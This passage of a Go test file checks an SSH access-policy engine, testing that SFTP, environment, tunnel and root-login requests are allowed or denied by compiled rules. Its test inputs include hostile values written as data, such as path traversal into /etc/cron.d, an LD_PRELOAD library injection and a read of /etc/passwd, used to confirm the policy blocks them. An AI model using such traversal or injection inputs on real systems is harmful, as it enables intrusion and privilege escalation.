		{Name: "sftp-write-srv", Effect: "allow", When: `request.ssh.sftp.op == "write" && request.ssh.sftp.path.startsWith("/srv/")`},
		{Name: "rename-in-srv", Effect: "allow", When: `request.ssh.sftp.op == "rename" && request.ssh.sftp.path.startsWith("/srv/") && request.ssh.sftp.target.startsWith("/srv/")`},
		{Name: "lang", Effect: "allow", When: `request.ssh.request == "env" && (request.ssh.env.name == "LANG" || request.ssh.env.name.startsWith("LC_"))`},
		{Name: "db-tunnel", Effect: "allow", When: `request.ssh.channel == "direct-tcpip" && request.ssh.host == "db.internal" && request.ssh.port == 5432`},
		{Name: "login", Effect: "deny", When: `request.ssh.login == "root"`, Reason: "no root logins"},
	}}}, 1)
	require.NoError(t, err)
	sftp := func(op, p, target string) schemas.SSHRequest {
		return schemas.SSHRequest{Request: "sftp", SFTP: &schemas.SFTPOperation{Op: op, Path: p, Target: target}}
	}
	for _, tc := range []struct {
		req  schemas.SSHRequest
		rule string // "" : default deny
	}{
		{schemas.SSHRequest{Request: "subsystem", Subsystem: "sftp"}, "sftp-subsystem"},
		{schemas.SSHRequest{Request: "subsystem", Subsystem: "other"}, ""},
		{sftp("read", "/etc/passwd", ""), "sftp-read"},
		{sftp("write", "/srv/app/x", ""), "sftp-write-srv"},
		{sftp("write", "/srv/../etc/cron.d/x", ""), ""},
		{sftp("write", "srv/x", ""), ""},
		{sftp("remove", "/srv/app/x", ""), ""},
		{sftp("rename", "/srv/a", "/srv/b"), "rename-in-srv"},
		{sftp("rename", "/srv/a", "/srv/../etc/b"), ""},
		{schemas.SSHRequest{Request: "env", EnvName: "LC_ALL", EnvValue: "C"}, "lang"},
		{schemas.SSHRequest{Request: "env", EnvName: "LD_PRELOAD", EnvValue: "/tmp/x.so"}, ""},
		{schemas.SSHRequest{Channel: "direct-tcpip", Request: "open", Host: "db.internal", Port: 5432}, "db-tunnel"},
		{schemas.SSHRequest{Channel: "direct-tcpip", Request: "open", Host: "db.internal", Port: 22}, ""},
		{schemas.SSHRequest{Login: "root", Request: "subsystem", Subsystem: "sftp"}, "login"},
	} {
		d := decideSSH(t, e, nil, tc.req)
		require.Equal(t, tc.rule, d.Rule, "%+v: %s", tc.req, d.Reason)
		if tc.rule == "" || tc.rule == "login" {
			require.Equal(t, schemas.EffectDeny, d.Effect)
		} else {
			require.Equal(t, schemas.EffectAllow, d.Effect)
		}
	}
	d := decideSSH(t, e, nil, sftp("write", "/srv/../etc/x", ""))
	require.Equal(t, `no rule allows sftp "write" of "/etc/x" for deploy@web-1`, d.Reason)
	d = decideSSH(t, e, nil, schemas.SSHRequest{Request: "env", EnvName: "LD_PRELOAD"})
	require.Equal(t, `no rule allows env "LD_PRELOAD" for deploy@web-1`, d.Reason)
}

func TestDecideSSHInputsAreAlwaysPresent(t *testing.T) {
	// Every field exists on every request: a deny rule reading one never fails.
	fields := []string{"login", "channel", "request", "command", "subsystem", "term", "env.name", "env.value", "host", "sftp.op", "sftp.path", "sftp.target", "parse_error"}
	for _, f := range fields {
		e, err := policy.Compile([]config.Policy{{Name: "p", Resources: []string{"web-1"}, Rules: []config.Rule{
			{Name: "all", Effect: "allow", When: `true`},
			{Name: "check", Effect: "deny", When: `request.ssh.` + f + ` == "never"`},
			{Name: "check-more", Effect: "deny", When: `request.ssh.port == 1 || request.ssh.commands.size() + request.ssh.programs.size() + request.ssh.files_written.size() + request.ssh.files_read.size() > 100 || request.ssh.has_substitution && request.ssh.pipes && request.ssh.background && request.ssh.dynamic`},
			{Name: "check-kind", Effect: "deny", When: `request.kind != "ssh"`},
		}}}, 1)
		require.NoError(t, err)
		for _, req := range []schemas.SSHRequest{{Request: "shell"}, exec("ls"), {Request: "sftp"}} {
			require.Equal(t, schemas.EffectAllow, decideSSH(t, e, nil, req).Effect, f)
		}
	}
	e, err := policy.Compile([]config.Policy{{Name: "p", Resources: []string{"web-1"}, Rules: []config.Rule{
		{Name: "cmds", Effect: "allow", When: `request.ssh.commands.exists(c, c.name == "rm" && c.program == "/bin/rm" && c.args == ["-f", "x"] && !c.dynamic)`},
	}}}, 1)
	require.NoError(t, err)
	require.Equal(t, schemas.EffectAllow, decideSSH(t, e, nil, exec("/bin/rm -f x")).Effect)
	require.Equal(t, schemas.EffectDeny, decideSSH(t, e, nil, exec("/bin/rm -f $X")).Effect)
}
